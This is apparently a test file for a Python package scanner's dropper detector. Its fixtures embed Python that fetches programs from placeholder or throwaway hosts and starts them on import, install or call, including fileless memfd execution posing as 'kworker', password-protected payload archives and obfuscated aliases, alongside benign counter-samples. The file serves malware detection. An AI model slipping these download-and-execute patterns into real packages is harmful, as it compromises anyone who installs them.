import { describe, expect, test } from 'vitest';
import type { Finding } from '../../../src/analysis/report/finding.ts';
import { inspect, python, sdist, wheel } from '../../support/inspect.ts';

test('a program that is downloaded and started at import is malware at the line that starts it', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import subprocess',
      'import urllib.request',
      '',
      "urllib.request.urlretrieve('https://files.tools.invalid/agent.exe', '/tmp/agent.exe')",
      "subprocess.Popen(['/tmp/agent.exe'])",
    ),
  });

  const findings = await inspect('dropper', file);

  expect(findings).toMatchObject([
    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 5 },
  ]);
  expect(findings[0]?.chain).toContainEqual(
    expect.objectContaining({ role: 'transformation', line: 4, text: 'written to /tmp/agent.exe' }),
  );
});

test('a program that is only written at install is named at the line that writes it', async () => {
  const file = sdist({
    'setup.py': python(
      'import requests',
      'from setuptools import setup',
      "body = requests.get('https://files.tools.invalid/agent').content",
      "with open('/tmp/agent.exe', 'wb') as out:",
      '    out.write(body)',
      "setup(name='example')",
    ),
  });

  expect(await inspect('dropper', file)).toMatchObject([
    { class: 'malware', context: 'install', path: 'example-1.0.0/setup.py', line: 5 },
  ]);
});

test('a data set that is downloaded on call and read is no dropper', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import json',
      'import urllib.request',
      '',
      'def load(path):',
      "    urllib.request.urlretrieve('https://data.tables.invalid/iris.json', path + '/iris.json')",
      "    with open(path + '/iris.json') as table:",
      '        return json.load(table)',
    ),
  });

  expect(await inspect('dropper', file)).toEqual([]);
});

test('an archive of sources that make builds at install stays below quarantine', async () => {
  const file = sdist({
    'setup.py': python(
      'import subprocess',
      'import urllib.request',
      'from setuptools import setup',
      "urllib.request.urlretrieve('https://www.library.invalid/libfoo-1.2.tar.gz', 'libfoo-1.2.tar.gz')",
      "subprocess.check_call(['tar', 'xf', 'libfoo-1.2.tar.gz'])",
      "setup(name='example')",
    ),
  });

  for (const { score } of await inspect('dropper', file)) expect(score).toBeLessThan(5);
});

test('a download behind aliases, a helper function and a path put together is found', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os as system_tools, tempfile',
      'from requests import get as load',
      '',
      'def keep(address, place):',
      "    with open(place, 'wb') as out:",
      '        out.write(load(address).content)',
      '    return place',
      '',
      "name = 'up' + 'date' + '.exe'",
      "kept = keep('https://' + 'files.tools.invalid' + '/u', '/tmp/' + name)",
      'getattr(system_tools, "sys" + "tem")(kept)',
    ),
  });

  expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', path: 'pkg/__init__.py', line: 11 }]);
});

test.each([
  [
    'a zip',
    "path = tempfile.mktemp('.zip')",
    "urllib.request.urlretrieve('https://files.tools.invalid/a.zip', path)",
    'sys.path.insert(0, path)',
    'import stage',
  ],
  [
    'a repository',
    'from dulwich import porcelain',
    "porcelain.clone('https://code.tools.invalid/x.git', '/tmp/.cfg', depth=1)",
    "sys.path.insert(0, '/tmp/.cfg')",
    'import bootstrap',
  ],
])('%s that is fetched and put where imports look is malware', async (_what, ...lines) => {
  const file = wheel({ 'pkg/__init__.py': python('import sys, tempfile, urllib.request', ...lines) });

  expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', score: 10, line: 4 }]);
});

test('a bootstrap that fetches its build tool from the index stays below quarantine', async () => {
  const file = sdist({
    'setup.py': python(
      'import os, sys, urllib.request',
      "egg = os.path.join(os.curdir, 'setuptools-0.6c11-py2.7.egg')",
      "urllib.request.urlretrieve('https://files.pythonhosted.org/packages/setuptools-0.6c11-py2.7.egg', egg)",
      'sys.path.insert(0, egg)',
      'from setuptools import setup',
      "setup(name='example')",
    ),
  });

  expect((await inspect('dropper', file)).every((finding) => finding.score < 5)).toBe(true);
});

test.each(['os.memfd_create("kworker")', 'ctypes.CDLL(None).syscall(319, b"kworker", 1)'])(
  'a program that is fetched into %s and started from there is malware, even on call',
  async (made) => {
    const file = wheel({
      'pkg/__init__.py': python(
        'import ctypes, os, urllib.request',
        'def roots(f):',
        "    program = urllib.request.urlopen('https://files.tools.invalid/m').read()",
        `    descriptor = ${made}`,
        '    os.write(descriptor, program)',
        '    os.execve("/proc/self/fd/%d" % descriptor, ["[kworker]"], {})',
      ),
    });

    expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 6 }]);
  },
);

test('an anonymous file that holds data for a child process stays silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, subprocess',
      'def show(picture):',
      '    descriptor = os.memfd_create("picture")',
      '    os.write(descriptor, picture)',
      "    subprocess.run(['feh', '-'], stdin=descriptor)",
    ),
  });

  expect(await inspect('dropper', file)).toEqual([]);
});

test('a clone that is entered and whose script is started is malware', async () => {
  const file = sdist({
    'setup.py': python(
      'import os, subprocess',
      'from setuptools import setup',
      "os.system('git clone https://github.com/somebody/some-tool.git /tmp/.cache-x')",
      "os.chdir('/tmp/.cache-x')",
      "subprocess.call(['python3', 'main.py'])",
      "setup(name='example')",
    ),
  });

  expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', score: 10, line: 5 }]);
});

test('a module that fetches its own next version at import is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      "open(__file__, 'w').write(requests.get('https://collector.metrics.invalid/next.py').text)",
    ),
  });

  expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', score: 10, line: 2 }]);
});

test('a command that installs and starts the extension that its user names stays below quarantine', async () => {
  const code = (url: string, name: string): string =>
    python(
      'import pathlib, requests, subprocess',
      'def run(extension):',
      `    body = requests.get(${url}).content`,
      `    path = pathlib.Path.home() / '.tool' / ${name}`,
      '    path.write_bytes(body)',
      '    subprocess.call([str(path)])',
    );
  const chosen = code("'https://plugins.tool.example/x/' + extension", "(extension + '.exe')");
  const fixed = code("'https://plugins.tool.invalid/x/a'", "'agent.exe'");

  expect(await inspect('dropper', wheel({ 'pkg/__init__.py': chosen }))).toMatchObject([{ score: 4 }]);
  expect(await inspect('dropper', wheel({ 'pkg/__init__.py': fixed }))).toMatchObject([{ score: 10 }]);
});

test('a program of the user’s with the name of a folder that a tool clones into is another one', async () => {
  const file = sdist({
    'setup.py': python(
      'import os, subprocess',
      'from setuptools import setup',
      "for entry in os.environ.get('PATH', '').split(os.pathsep):",
      "    subprocess.Popen(args=[os.path.join(entry, 'rustenv'), 'root'])",
      "setup(name='example')",
    ),
    'docker/install.py': python(
      'import subprocess',
      'def main():',
      "    subprocess.run(['git', 'clone', 'https://github.com/example/rustenv', '/rustenv'])",
      "if __name__ == '__main__':",
      '    main()',
    ),
  });

  expect(await inspect('dropper', file)).toEqual([]);
});

test('code that names the file it fetched does not start it by being run itself', async () => {
  const fetching = python(
    'import urllib.request',
    "urllib.request.urlretrieve('https://tables.vendor.invalid/words.bin', 'cache/words.bin')",
  );
  const file = wheel({ 'pkg/__init__.py': python(`CODE = ${JSON.stringify(fetching)}`, 'exec(CODE)') });

  expect(await inspect('dropper', file)).not.toContainEqual(
    expect.objectContaining({ message: expect.stringContaining('Starts') as unknown }),
  );
});

test('a form with values filled in was not fetched, unless nobody asked for it', async () => {
  const lines = [
    "version = requests.get('https://updates.vendor.invalid/latest').text",
    "form = '@echo off\\nrem the program stops first, then the new one takes its place: ' + version + '\\nexit /b 0\\n'",
    "open('update-later.bat', 'w').write(form)",
    "subprocess.Popen(['update-later.bat'])",
  ];
  const asked = wheel({
    'pkg/update.py': python('import requests, subprocess', 'def update():', ...lines.map((line) => `    ${line}`)),
  });
  const unasked = wheel({ 'pkg/__init__.py': python('import requests, subprocess', ...lines) });

  expect(await inspect('dropper', asked)).toEqual([]);
  expect(await inspect('dropper', unasked)).toMatchObject([{ class: 'malware' }]);
});

describe('a program that is fetched and started when somebody calls', () => {
  const fetching = python(
    'import subprocess, urllib.request',
    'def go():',
    "    urllib.request.urlretrieve('https://files.tools.invalid/agent-linux', '/tmp/agent-linux')",
    "    subprocess.Popen(['/tmp/agent-linux'])",
  );

  test('is all that a few lines are for: held', async () => {
    expect(await inspect('dropper', wheel({ 'pkg/__init__.py': fetching }))).toMatchObject([{ score: 5 }]);
  });

  test('is one thing of many that a large tool does: below', async () => {
    const rest = python(...Array.from({ length: 2_000 }, (_, i) => `def f${i}(x): return x + ${i}`));

    expect(await inspect('dropper', wheel({ 'pkg/__init__.py': fetching, 'pkg/rest.py': rest }))).toMatchObject([
      { score: 4 },
    ]);
  });
});

test('unpacking what was downloaded, with PowerShell as well, is not starting it', async () => {
  const file = (command: string) =>
    wheel({
      'pkg/__init__.py': python(
        'import subprocess',
        'import requests',
        'def fetch():',
        "    with open('/opt/tool/driver.zip', 'wb') as f:",
        "        f.write(requests.get('https://downloads.vendor.invalid/driver.zip').content)",
        `    subprocess.run(['powershell', '-Command', ${JSON.stringify(command)}])`,
      ),
    });

  expect(
    await inspect('dropper', file('Expand-Archive -Path "/opt/tool/driver.zip" -DestinationPath out -Force')),
  ).toEqual([]);
  expect(await inspect('dropper', file('Expand-Archive /opt/tool/driver.zip; & /opt/tool/driver.zip'))).not.toEqual([]);
});

test('a program that is taken out of a fetched archive and started is malware at import', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import io, os, subprocess, urllib.request, zipfile',
      "z = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen('https://files.tools.invalid/n.zip').read()))",
      "z.extract('tunnelctl', '/tmp')",
      "os.chmod('/tmp/tunnelctl', 0o755)",
      "subprocess.Popen('/tmp/tunnelctl tcp 22', shell=True)",
    ),
  });

  expect(await inspect('dropper', file)).toContainEqual(
    expect.objectContaining({ class: 'malware', score: 10, line: 5 }),
  );
});

test('an archive that is fetched and unpacked by the program of that name is not started', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests, sh',
      'def fetch(url, cache):',
      "    path = '%s/latest.zip' % cache",
      "    with open(path, 'wb') as f:",
      '        f.write(requests.get(url).content)',
      '    sh.unzip(path)',
    ),
  });

  expect(await inspect('dropper', file)).toEqual([]);
});

test('weights that an import fetches into a cache are no program, a library that it fetches is one', async () => {
  const of = (name: string): Promise<readonly Finding[]> =>
    inspect(
      'dropper',
      wheel({
        'pkg/__init__.py': python(
          'import os, urllib.request',
          `at = os.path.expanduser('~/.cache/pkg/${name}')`,
          'if not os.path.exists(at):',
          `    urllib.request.urlretrieve('https://weights.service.invalid/${name}', at)`,
        ),
      }),
    );

  expect(await of('model.bin')).toEqual([]);
  expect(await of('model.so')).toMatchObject([{ class: 'malware', score: 6 }]);
});

test.each([
  ['a bare address', 'http://203.0.113.9/agent', { class: 'malware', score: 10 }],
  ['attachments of a messenger', 'https://cdn.discordapp.com/attachments/1/2/agent', { class: 'malware', score: 10 }],
  ['a vendor', 'https://get.vendor.invalid/agent', { class: 'suspicious', score: 5 }],
])('a program that a function fetches from %s and starts', async (_where, address, expected) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, subprocess, urllib.request',
      'def start():',
      `    urllib.request.urlretrieve('${address}', '/tmp/.agent')`,
      "    os.chmod('/tmp/.agent', 0o755)",
      "    subprocess.Popen(['/tmp/.agent', '--now'])",
    ),
  });

  expect(await inspect('dropper', file)).toMatchObject([{ ...expected, context: 'call' }]);
});

test('a second way to fetch the same file is no start of it, a program behind it is', async () => {
  const of = (line: string): Promise<readonly Finding[]> =>
    inspect(
      'dropper',
      wheel({
        'pkg/__init__.py': python(
          'import subprocess',
          'from urllib.request import urlopen',
          "target = '/opt/kettle/kettle.zip'",
          'def plain(url):',
          "    with open(target, 'wb') as file:",
          '        file.write(urlopen(url).read())',
          'def by_shell(url):',
          `    subprocess.check_call(['powershell', '-Command', ${line}])`,
        ),
      }),
    );

  expect(await of("\"(New-Object Net.WebClient).DownloadFile('%s', '%s')\" % (url, target)")).toEqual([]);
  expect(await of("'iwr %s -OutFile %s' % (url, target)")).toEqual([]);
  expect(
    await of("\"(New-Object Net.WebClient).DownloadFile('%s', '%s'); & %s\" % (url, target, target)"),
  ).toMatchObject([{ score: 5 }]);
});

test('a program kept as text that a function writes and starts is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64, os, tempfile',
      `BLOB = '${Buffer.from(`MZ${'\0'.repeat(400)}`).toString('base64')}'`,
      'def run():',
      "    path = tempfile.mktemp('.exe')",
      "    open(path, 'wb').write(base64.b64decode(BLOB))",
      '    os.startfile(path)',
    ),
  });

  expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', score: 9, context: 'call' }]);
});

test.each([
  ["os.environ['TEMP']", [{ class: 'suspicious', score: 5 }]],
  ['os.path.dirname(__file__)', []],
])('a program out of a fetched archive that is unpacked in %s', async (folder, expected) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import io, os, subprocess, requests, zipfile',
      'def run():',
      `    folder = ${folder}`,
      "    packed = zipfile.ZipFile(io.BytesIO(requests.get('https://get.vendor.invalid/a.zip').content))",
      '    packed.extractall(folder)',
      "    subprocess.Popen(os.path.join(folder, 'a', 'run.exe'))",
    ),
  });

  expect(await inspect('dropper', file)).toMatchObject(expected);
});

test('a table that is written as a literal beside the code is data; received text as it came is code', async () => {
  const writing = (content: string): Promise<readonly Finding[]> =>
    inspect(
      'dropper',
      wheel({
        'pkg/__init__.py': python(
          'import pathlib, requests',
          'table = {}',
          "for line in requests.get('https://data.vendor.invalid/list').text.splitlines():",
          '    table[line] = line.strip()',
          "with (pathlib.Path(__file__).parent / 'table.py').open('w') as f:",
          `    f.write(${content})`,
        ),
      }),
    );

  expect(await writing("'TABLE = ' + str(table)")).toEqual([]);
  expect(await writing("f'TABLE = {table}'")).toEqual([]);
  expect(await writing('line')).toMatchObject([{ class: 'malware', score: 10 }]);
  expect(await writing("'TABLE = ' + str(table) + line")).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('on call the host of a vendor is known where its address has no path', async () => {
  const installer = (address: string): string =>
    python(
      'import subprocess, tempfile, urllib.request',
      'def install():',
      "    with tempfile.NamedTemporaryFile('wb', suffix='.sh', delete=False) as f:",
      `        f.write(urllib.request.urlopen('${address}').read())`,
      "    subprocess.check_call(['sh', f.name])",
    );

  expect(await inspect('dropper', wheel({ 'pkg/a.py': installer('https://get.docker.com') }))).toMatchObject([
    { class: 'suspicious', score: 4 },
  ]);
  expect(await inspect('dropper', wheel({ 'pkg/a.py': installer('https://get.tools.invalid') }))).toMatchObject([
    { class: 'suspicious', score: 5 },
  ]);
  expect(await inspect('dropper', wheel({ 'pkg/a.py': installer('http://203.0.113.7') }))).toMatchObject([
    { class: 'malware', score: 10 },
  ]);
});

test('code from a code host beside its own is for a person to judge in the build of a large project alone', async () => {
  const built = (address: string, size: number): Promise<readonly Finding[]> =>
    inspect(
      'dropper',
      sdist({
        'setup.py': python(
          'import os, urllib.request',
          'from setuptools import setup',
          `urllib.request.urlretrieve('${address}', os.path.join(os.path.dirname(__file__), 'tool.py'))`,
          'setup()',
        ),
        'pkg/__init__.py': 'VALUE = 1\n'.repeat(size / 10),
      }),
    );
  const kept = 'https://raw.githubusercontent.com/example/library/main/tool.py';

  expect(await built(kept, 300_000)).toMatchObject([{ class: 'suspicious', score: 7 }]);
  expect(await built(kept, 3_000)).toMatchObject([{ class: 'malware', score: 10 }]);
  expect(await built('https://tools.vendor.invalid/tool.py', 300_000)).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('Python from where anybody leaves files, put into the folder of the build, is added to its own code', async () => {
  const built = (address: string, place: string): Promise<readonly Finding[]> =>
    inspect(
      'dropper',
      sdist({
        'setup.py': python(
          'import requests',
          'from setuptools import setup',
          `answer = requests.get('${address}')`,
          `with open('${place}', 'wb') as f: f.write(answer.content)`,
          'setup()',
        ),
      }),
    );
  const left = 'https://cdn.discordapp.com/attachments/1/2/agent.py';

  expect(await built(left, 'pkg/agent.py')).toMatchObject([{ class: 'malware', score: 10, context: 'install' }]);
  expect(await built(left, 'words.txt')).toEqual([]);
  expect(await built('https://bootstrap.pypa.io/ez_setup.py', 'ez_setup.py')).toEqual([]);
});

test('a tool that a command fetches from a code host for any system is a tool, one for Windows alone is for a person to judge', async () => {
  const of = (name: string, host = 'github.com'): Promise<readonly Finding[]> =>
    inspect(
      'dropper',
      wheel({
        'pkg/__init__.py': '',
        'pkg/tunnel.py': python(
          'import os, platform, subprocess, urllib.request',
          'def serve():',
          `    name = ${name}`,
          "    path = os.path.join(os.path.dirname(__file__), 'bin', name)",
          `    urllib.request.urlretrieve('https://${host}/example/agent/releases/download/1/agent', path)`,
          "    subprocess.Popen([path, 'run'])",
        ),
      }),
    );
  const either = "'agent.exe' if platform.system() == 'Windows' else 'agent'";

  expect((await of(either)).every((f) => f.score <= 5)).toBe(true);
  expect(await of("'agent.exe'")).toMatchObject([{ class: 'malware', score: 9 }]);
  expect(await of(either, 'files.vendor.invalid')).toMatchObject([{ class: 'malware', score: 10 }]);
  expect(await of("'agent.exe' if platform.machine() else 'helper'")).toMatchObject([{ class: 'malware', score: 9 }]);
  expect(await of(either, 'transfer.sh')).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('a fetched document that a program in Java reads is not started, a fetched program is', async () => {
  const of = (path: string, words: string): Promise<readonly Finding[]> =>
    inspect(
      'dropper',
      wheel({
        'pkg/__init__.py': '',
        'pkg/tables.py': python(
          'import subprocess, urllib.request',
          'def tables(address):',
          `    urllib.request.urlretrieve(address, '${path}')`,
          `    subprocess.run(${words})`,
        ),
      }),
    );

  expect(await of('/tmp/paper.pdf', "['java', '-jar', 'reader.jar', '--pages', '1', '/tmp/paper.pdf']")).toEqual([]);
  expect(await of('/tmp/paper.jar', "['java', '-jar', '/tmp/paper.jar', 'table.pdf']")).not.toEqual([]);
  expect(await of('/tmp/paper.txt', "['python', '/tmp/paper.txt', 'table.pdf']")).not.toEqual([]);
  expect(
    await of(
      '/tmp/paper.txt',
      "['python', '-c', 'exec(open(__import__(\\'sys\\').argv[1]).read())', '/tmp/paper.txt']",
    ),
  ).not.toEqual([]);
});

test('an archive that a helper unpacks by its ending is not started by the branch for other endings', async () => {
  const of = (name: string): Promise<readonly Finding[]> =>
    inspect(
      'dropper',
      wheel({
        'pkg/__init__.py': '',
        'pkg/kit.py': python(
          'import subprocess, urllib.request',
          'from pathlib import Path',
          'def unpack(archive, folder):',
          '    path = Path(folder, archive)',
          "    if path.suffix == '.zip':",
          "        return subprocess.check_call(['unzip', str(path)])",
          "    if path.suffix == '.run':",
          '        return subprocess.check_call([str(path)])',
          'def install(folder):',
          `    urllib.request.urlretrieve('https://github.com/example/kit/archive/${name}', folder + '/${name}')`,
          `    unpack('${name}', folder)`,
        ),
      }),
    );

  expect(await of('toolkit.zip')).toEqual([]);
  expect(await of('toolkit.run')).not.toEqual([]);
});

test('an archive that lies beside the code under a password of the code, unpacked and started, hides a program', async () => {
  const file = (password: string, program: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import os, subprocess, tempfile, zipfile',
        'folder = tempfile.gettempdir()',
        `zipfile.ZipFile(os.path.join(os.path.dirname(__file__), 'assets.zip')).extractall(folder${password})`,
        `subprocess.Popen([${program}])`,
      ),
      'pkg/assets.zip': Buffer.from('PK\x03\x04\x14\0\x09\0\x08\0'.padEnd(300, 'U'), 'latin1'),
    });
  const started = "os.path.join(folder, 'service.exe')";

  const [told] = await inspect('dropper', file(", pwd=b'infected'", started));

  expect(told).toMatchObject({ class: 'malware', score: 10, context: 'import', line: 4 });
  expect(told?.message).toContain('unpacked with a password');
  expect(await inspect('dropper', file('', started))).toEqual([]);
  expect(await inspect('dropper', file(", pwd=b'infected'", "'git'"))).toEqual([]);
});

test('a Windows program out of the sources of a stranger is told from one of the releases, and from the own one', async () => {
  const of = (address: string): Promise<readonly Finding[]> =>
    inspect(
      'dropper',
      wheel({
        'pkg/__init__.py': '',
        'pkg/helper.py': python(
          'import os, subprocess, urllib.request',
          'def update():',
          "    path = os.path.join(os.environ['APPDATA'], 'helper.exe')",
          `    urllib.request.urlretrieve('${address}', path)`,
          '    subprocess.Popen(path)',
        ),
      }),
    );

  expect(await of('https://github.com/stranger/tools/raw/main/helper.exe')).toMatchObject([{ score: 10 }]);
  expect(await of('https://raw.githubusercontent.com/stranger/tools/main/helper.exe')).toMatchObject([{ score: 10 }]);
  expect(await of('https://github.com/stranger/tools/releases/download/1/helper.exe')).toMatchObject([{ score: 9 }]);
  expect(await of('https://github.com/example/pkg/raw/main/helper.exe')).toMatchObject([{ score: 9 }]);
});

test('a Windows program that an import fetches is told by whether the project speaks of where it comes from', async () => {
  const of = (address: string): Promise<readonly Finding[]> =>
    inspect(
      'dropper',
      wheel({
        'pkg/__init__.py': python(
          'import os, urllib.request',
          "path = os.path.join(os.environ['APPDATA'], 'helper.exe')",
          `urllib.request.urlretrieve('${address}', path)`,
        ),
      }),
    );

  expect(await of('https://downloads.metrics.invalid/helper.exe')).toMatchObject([{ score: 10, context: 'import' }]);
  expect(await of('https://github.com/stranger/tools/raw/main/helper.exe')).toMatchObject([{ score: 10 }]);
  expect(await of('https://files.pkg.readthedocs.io/helper.exe')).toMatchObject([{ score: 6 }]);
  expect(await of('https://github.com/stranger/tools/releases/download/1/helper.exe')).toMatchObject([{ score: 6 }]);
});
